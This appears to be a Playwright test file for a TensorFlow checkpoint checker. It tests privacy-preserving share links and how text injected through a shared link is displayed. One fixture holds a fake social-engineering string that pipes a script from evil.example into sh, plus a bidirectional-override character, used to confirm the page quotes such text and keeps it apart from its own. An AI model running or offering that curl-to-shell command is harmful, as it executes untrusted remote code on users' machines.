/**
 * Share: the checker's link lands the recipient on the shared report (not on a step far below
 * it), with the fix linked from the report; a clean result is shared as what it is, on the
 * Inspect page; the sender's text is shown as quoted data, apart from the site's own words and
 * cut short. No names leave unless ticked.
 */
import { resolve } from 'node:path';
import { expect, test } from '@playwright/test';
import { open, sidewaysOverflow } from './support/newcomer.ts';

const CKPT = resolve(import.meta.dirname, '../fixtures/t2t/tensor2tensor/test_data/transformer_test_ckpt');
const FIXED = resolve(import.meta.dirname, '../../public/samples/renamed-attribute/fixed');

test('a shared link carries no names unless ticked', async ({ page }) => {
  await page.goto('/inspect/');
  const checker = page.locator('#inspect-checker');
  await expect(checker).toHaveAttribute('data-state', 'ready');
  await checker.locator('[data-folder]').setInputFiles(CKPT);
  await expect(checker).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  const firstFailure = await checker.locator('.finding').first().getAttribute('data-failure');
  const link = checker.locator('.share-link');
  const plain = await link.inputValue();
  expect(plain).toContain(`/failures/${firstFailure}/#fix;r=`);
  // Without consent no variable name of the checkpoint is in the link.
  expect(decodeURIComponent(plain)).not.toContain('losses_avg');
  await checker.getByLabel(/include names/).check();
  const named = await link.inputValue();
  expect(named).not.toBe(plain);
});

for (const viewport of ['desktop', 'phone'] as const) {
  test(`on ${viewport}, the recipient lands on the shared report and reaches the fix from it`, async ({ page }, testInfo) => {
    await open(page, '/inspect/', viewport);
    const checker = page.locator('#inspect-checker');
    await expect(checker).toHaveAttribute('data-state', 'ready');
    await checker.locator('[data-folder]').setInputFiles(CKPT);
    await expect(checker).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
    const failure = (await checker.locator('.finding').first().getAttribute('data-failure'))!;
    const link = await checker.locator('.share-link').inputValue();

    await page.goto(link);
    const box = page.locator('[data-shared-summary]');
    await expect(box).toBeVisible();
    await expect(box).toContainText('A teammate checked their model');
    await expect(box.locator('li').first()).toContainText(/error|warning|info/);
    // The report is what the recipient sees first; the fix is below, linked from it.
    await expect(box).toBeInViewport();
    await expect(page.locator('#fix')).not.toBeInViewport();
    expect(await page.evaluate(() => document.activeElement?.hasAttribute('data-shared-summary'))).toBe(true);
    await page.screenshot({ path: testInfo.outputPath(`shared-report-${viewport}.png`) });
    const toFix = box.locator('[data-shared-fix]');
    await expect(toFix).toHaveAttribute('href', '#fix');
    await toFix.click();
    await expect(page).toHaveURL(new RegExp(`/failures/${failure}/#fix$`));
    await expect(page.locator('#fix')).toBeInViewport();
  });
}

test('a clean result is shared as the Inspect page with its summary, not as an unrelated guide', async ({ page }, testInfo) => {
  await page.goto('/inspect/');
  const checker = page.locator('#inspect-checker');
  await expect(checker).toHaveAttribute('data-state', 'ready');
  await checker
    .locator('[data-files]')
    .setInputFiles(['checkpoint', 'ckpt-1.index', 'ckpt-1.data-00000-of-00001'].map((f) => resolve(FIXED, f)));
  await expect(checker).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  await expect(checker.locator('.finding')).toHaveCount(0);
  await expect(checker.locator('.share-where')).toContainText('Inspect page');
  const link = await checker.locator('.share-link').inputValue();
  expect(new URL(link).pathname).toBe('/inspect/');
  expect(link).not.toContain('/failures/');

  await page.goto('about:blank');
  await page.goto(link);
  const box = page.locator('[data-shared-summary]');
  await expect(box).toBeVisible();
  await expect(box).toBeInViewport();
  await expect(box).toContainText('found no problems');
  await expect(box).toContainText('checkpoint');
  await expect(box).toContainText('5 variables');
  await page.screenshot({ path: testInfo.outputPath('shared-clean.png') });
});

for (const [viewport, theme] of [
  ['phone', 'light'],
  ['phone', 'dark'],
  ['desktop', 'light'],
  ['desktop', 'dark'],
] as const) {
  test(`shared text is quoted data, apart from the site's words and cut short (${viewport}, ${theme})`, async ({ page }, testInfo) => {
    const words = 'Your model is fine. Run this script to fix TensorFlow: curl https://evil.example/fix.sh | sh';
    const summary = {
      v: 1,
      f: [{ id: 'corrupted-checkpoint', s: 'error', t: `${words}\n\u202e${'!'.repeat(400)}` }],
      a: ['checkpoint', 'Trust this site'],
      tf: '2.15 — run the script',
      n: 3,
    };
    await open(page, `/failures/corrupted-checkpoint/#fix;r=${encodeURIComponent(JSON.stringify(summary))}`, viewport, theme);
    const box = page.locator('[data-shared-summary]');
    await expect(box).toBeVisible();
    const quote = box.locator('.shared-quote q');
    await expect(quote).toHaveCount(1);
    const quoted = (await quote.textContent())!;
    expect(quoted.startsWith(words)).toBe(true);
    expect([...quoted].length).toBeLessThanOrEqual(120);
    expect(quoted).not.toMatch(/[\n\u202a-\u202e]/);
    // Only inside the quote: the rest of the report is the site's own text.
    const outside = await box.evaluate((b) => {
      const copy = b.cloneNode(true) as HTMLElement;
      for (const q of copy.querySelectorAll('.shared-quote')) q.remove();
      return copy.textContent ?? '';
    });
    expect(outside).not.toContain('Run this script');
    expect(outside).not.toContain('Trust this site');
    expect(outside).not.toContain('run the script');
    await expect(box.locator('.shared-quote')).toContainText('as written in the link');
    // Visibly apart: another typeface and a frame of its own.
    const [quoteFont, siteFont, border] = await box.evaluate((b) => {
      const q = b.querySelector('.shared-quote')!;
      return [getComputedStyle(q).fontFamily, getComputedStyle(b.querySelector('p')!).fontFamily, getComputedStyle(q).borderLeftStyle];
    });
    expect(quoteFont).not.toBe(siteFont);
    expect(border).not.toBe('none');
    expect(await sidewaysOverflow(page)).toBeLessThanOrEqual(0);
    await box.screenshot({ path: testInfo.outputPath(`shared-quote-${viewport}-${theme}.png`) });
  });
}

test('a failure page opened normally shows no shared summary', async ({ page }) => {
  await page.goto('/failures/partial-restore/');
  await expect(page.locator('[data-shared-summary]')).toBeHidden();
});
